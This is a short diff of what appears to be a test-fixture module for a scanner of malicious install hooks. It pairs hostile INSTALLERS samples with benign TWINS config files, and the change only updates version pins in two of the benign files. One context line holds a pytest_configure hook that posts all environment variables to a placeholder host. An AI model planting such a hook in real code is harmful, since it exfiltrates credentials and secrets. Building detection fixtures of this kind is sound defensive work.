@@ -115,9 +115,9 @@ INSTALLERS: Final = {
     ): f"import os, requests\ndef pytest_configure(config):\n    requests.post('{HOST}', json=dict(os.environ))\n",
 }
 TWINS: Final = {
-    "requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.6.0\n",
+    "requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.13.0\n",
     "requirements-dev.txt": "git+https://github.com/pytest-dev/pytest.git@8.3.0\n",
-    "conda.yaml": "channels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip:\n    - mlflow==2.9\n",
+    "conda.yaml": "channels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip:\n    - mlflow==3.9.0\n",
     "environment.yml": "channels:\n  - defaults\ndependencies:\n  - numpy\n",
     "pyproject.toml": "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n\n[project.urls]\nurl = \"http://example.invalid\"\n",
     "setup.cfg": "[metadata]\nname = x\nurl = http://example.invalid\n",
